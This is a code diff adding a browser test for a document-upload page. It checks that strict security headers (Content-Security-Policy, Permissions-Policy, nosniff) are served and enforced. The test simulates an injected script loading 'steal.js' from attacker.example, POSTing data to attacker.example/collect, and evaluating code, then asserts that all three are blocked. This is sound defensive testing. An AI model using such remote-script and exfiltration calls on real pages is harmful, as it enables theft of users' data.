@@ -81,5 +81,45 @@ describe.skipIf(!chromiumAvailable())('reference upload page in Chromium against
     const front = (stored.Items ?? []).find((item) => item.slot === 'document_front');
     expect(front?.result).toBe('rejected');
     expect(front?.reasons).toContain('PHOTO_TOO_BLURRY');
+    expect(page.cspViolations).toEqual([]);
   }, 240_000);
+
+  it('serves the page with its strict security headers, and the browser enforces them', async () => {
+    // Prepare
+    const page = new UploadPage(await browser.context.newPage(), e2e.logs);
+    const response = await page.page.goto(`${e2e.runtime.apiUrl}/`);
+    const s3Origin = new URL(e2e.runtime.endpoints.s3).origin;
+
+    // Act: what an injected script would try: load code from elsewhere, send data elsewhere
+    const attempts = await page.page.evaluate(async () => {
+      const script = document.createElement('script');
+      script.src = 'https://attacker.example/steal.js';
+      const loaded = await new Promise<string>((done) => {
+        script.onload = () => done('loaded');
+        script.onerror = () => done('blocked');
+        document.head.append(script);
+      });
+      const sent = await fetch('https://attacker.example/collect', { method: 'POST', body: 'x' }).then(
+        () => 'sent',
+        () => 'blocked',
+      );
+      let evaluated = 'blocked';
+      try {
+        evaluated = String(new Function('return "ran"')());
+      } catch {
+        // EvalError under script-src 'self'
+      }
+      return { loaded, sent, evaluated };
+    });
+
+    // Assess: the headers, and each attempt refused by the policy (not merely unreachable)
+    const headers = response?.headers() ?? {};
+    expect(headers['content-security-policy']).toContain("script-src 'self'");
+    expect(headers['content-security-policy']).toContain(`connect-src 'self' ${s3Origin}`);
+    expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
+    expect(headers['permissions-policy']).toContain('camera=(self)');
+    expect(headers['x-content-type-options']).toBe('nosniff');
+    expect(attempts).toEqual({ loaded: 'blocked', sent: 'blocked', evaluated: 'blocked' });
+    expect(page.cspViolations.length).toBeGreaterThanOrEqual(3);
+  });
 });
